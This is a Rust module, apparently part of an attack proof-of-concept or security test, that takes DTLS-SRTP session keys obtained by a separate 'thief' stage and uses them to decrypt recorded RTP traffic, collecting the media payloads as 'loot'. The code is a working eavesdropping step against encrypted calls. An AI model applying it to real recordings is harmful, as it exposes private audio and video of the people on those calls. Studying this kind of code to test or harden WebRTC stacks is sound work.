//! Decrypts a recording with session keys that were found.

use std::collections::BTreeSet;
use std::net::SocketAddr;

use rtc_crypto::providers::AwsLcRsCrypto;
use rtc_rtp::Packet;
use rtc_shared::marshal::Unmarshal;
use rtc_srtp::context::Context;
use rtc_srtp::protection_profile::ProtectionProfile;

use super::stage::Recorded;
use super::thief::Stolen;

/// A DTLS-SRTP profile: its number, its name in the crate, lengths of its master key and salt (RFC
/// 5764 §4.1.2, RFC 7714 §14.2).
pub const PROFILES: [(u16, ProtectionProfile, usize, usize); 3] = [
    (0x0001, ProtectionProfile::Aes128CmHmacSha1_80, 16, 14),
    (0x0007, ProtectionProfile::AeadAes128Gcm, 16, 12),
    (0x0008, ProtectionProfile::AeadAes256Gcm, 32, 12),
];

/// What came of it.
#[derive(Debug, Default)]
pub struct Loot {
    /// Session keys that were in the vault.
    pub sessions: usize,
    /// Recorded RTP packets that were decrypted.
    pub packets: usize,
    /// Their payloads.
    pub media: Vec<Vec<u8>>,
}

/// The two directions of a session (RFC 5764 §4.2): client key, server key, client salt, server
/// salt.
pub fn directions(profile: usize, material: &[u8]) -> Option<[Context; 2]> {
    let (_, _, key, salt) = PROFILES[profile];
    if material.len() != 2 * (key + salt) {
        return None;
    }
    let direction = |n: usize| {
        let salts = 2 * key;
        let own_salt = &material[salts + n * salt..salts + (n + 1) * salt];
        context(profile, &material[n * key..(n + 1) * key], own_salt)
    };
    Some([direction(0)?, direction(1)?])
}

/// A context to receive with, that takes every packet as often as it comes.
pub fn context(profile: usize, key: &[u8], salt: &[u8]) -> Option<Context> {
    Context::new(key, salt, PROFILES[profile].1, None, None, &AwsLcRsCrypto).ok()
}

/// Who talks to whom: from, to.
pub fn ways(tape: &[Recorded]) -> BTreeSet<(SocketAddr, SocketAddr)> {
    tape.iter()
        .map(|datagram| (datagram.from, datagram.to))
        .collect()
}

/// Uses every session key on everything that was recorded.
pub fn decrypt(tape: &[Recorded], stolen: &Stolen) -> Loot {
    let mut loot = Loot {
        sessions: stolen.sessions.len(),
        ..Loot::default()
    };
    for session in &stolen.sessions {
        let Some(profile) = PROFILES
            .iter()
            .position(|(number, ..)| *number == session.profile)
        else {
            continue;
        };
        for way in ways(tape) {
            // Which end of a way is the DTLS client is not known: both keys are tried.
            for mut context in directions(profile, &session.material).into_iter().flatten() {
                let on_the_way = tape
                    .iter()
                    .filter(|datagram| (datagram.from, datagram.to) == way);
                for datagram in on_the_way.filter(|datagram| datagram.is_rtp()) {
                    let Ok(plain) = context.decrypt_rtp(&datagram.data) else {
                        continue;
                    };
                    let packet = Packet::unmarshal(&mut &plain[..]).expect("RTP");
                    loot.packets += 1;
                    loot.media.push(packet.payload.to_vec());
                }
            }
        }
    }
    loot
}
